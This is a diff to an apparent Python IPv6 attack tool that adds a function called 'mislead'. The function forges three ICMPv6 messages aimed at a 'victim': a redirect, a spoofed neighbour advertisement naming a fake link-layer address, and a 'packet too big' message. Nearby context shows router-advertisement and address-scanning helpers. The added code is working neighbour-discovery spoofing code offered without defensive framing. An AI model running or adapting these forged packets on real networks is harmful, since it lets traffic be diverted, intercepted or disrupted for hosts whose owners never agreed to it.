@@ -65,6 +65,17 @@ def advertise(link, source, prefix):
     frame(link, '33:33:00:00:00:01', ip6(ICMP6, source, everybody, body, 255))
 
 
+def mislead(hardware, source, to, victim):
+    """That the way to the victim is by here (a redirect), that it is here (an advertisement of a neighbour), and that a
+    packet from there to it was too big."""
+    here = struct.pack('!BB', 2, 1) + b'\x02\x66\x66\x66\x66\x66'
+    inner = ip6(UDP, to, victim, udp(to, 7, victim, 5000, 'x'))
+    for kind, body in ((137, bytes(4) + packed(source) + packed(victim) + here),
+                       (136, struct.pack('!I', 0x20000000) + packed(victim) + here),
+                       (2, struct.pack('!I', 1280) + inner)):
+        frame('eth0', hardware, ip6(ICMP6, source, to, icmp(source, to, kind, 0, body), 255))
+
+
 def scan(hardware, source, network, count):
     """A datagram to each of the first addresses of a network, by way of who has that hardware address."""
     for number in range(int(count)):
